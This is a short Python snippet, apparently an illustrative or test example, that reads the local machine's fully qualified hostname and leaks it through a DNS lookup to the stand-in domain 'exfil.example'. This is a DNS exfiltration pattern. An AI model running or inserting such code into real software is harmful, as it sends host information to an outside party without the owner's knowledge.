import socket
name = socket.getfqdn()
socket.gethostbyname(name + '.exfil.example')
